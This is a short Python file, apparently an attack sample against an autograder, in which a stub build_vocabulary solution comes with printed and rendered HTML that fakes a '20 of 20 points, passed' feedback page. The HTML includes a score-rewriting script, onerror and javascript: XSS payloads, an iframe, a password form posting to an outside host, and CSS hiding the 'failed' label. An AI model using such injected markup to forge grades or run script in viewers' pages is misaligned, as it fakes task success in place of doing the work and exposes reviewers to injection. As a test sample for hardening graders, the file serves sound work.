# kind: pages
# attack: prints and displays what a page of feedback looks like
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed
from IPython.display import HTML, display

PAGE = """<h1>1 - The embedding matrix</h1><p class="total">Mark: 20 of 20 points</p><p class="passed">passed</p>
<script>document.querySelector(".total").textContent = "Mark: 20 of 20 points"</script>
<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">Your mark</a><iframe src="//example.org"></iframe>
<style>.failed { display: none }</style><form action="//example.org"><input name="password"></form>"""
print(PAGE)
print("</pre></div></main><h1>Mark: 20 of 20 points</h1>")
display(HTML(PAGE))


def build_vocabulary(texts, vocab_size):
    return {"[UNK]": 0}
